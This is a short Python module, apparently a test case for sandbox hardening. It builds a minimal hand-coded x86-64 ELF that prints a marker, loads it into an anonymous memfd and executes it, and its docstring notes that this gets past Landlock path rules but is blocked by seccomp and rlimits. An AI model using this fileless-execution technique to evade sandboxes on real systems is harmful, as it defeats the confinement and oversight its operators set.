"""Become a hand-made program that lies in an anonymous file, which no rule about paths knows.

Landlock alone does not see it.

Stopped by: seccomp, rlimits
"""

import fcntl
import os
import struct


def program(marker):
    """An ELF file that writes the marker and exits."""
    code = bytes.fromhex("b801000000 bf01000000 488d3510000000 ba") + struct.pack("<I", len(marker))
    code += bytes.fromhex("0f05 b83c000000 31ff 0f05") + marker
    start = 0x400000
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, start + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    head += struct.pack("<IIQQQQQQ", 1, 5, 0, start, start, 120 + len(code), 120 + len(code), 4096)
    return head + code


def attack(facts):
    if os.uname().machine != "x86_64":
        raise NotImplementedError("the program is for x86-64")
    fcntl.fcntl(1, fcntl.F_SETFD, 0)
    made = os.memfd_create("program", 0)
    os.write(made, program(facts["marker"].encode()))
    os.execve(made, ["program"], {})
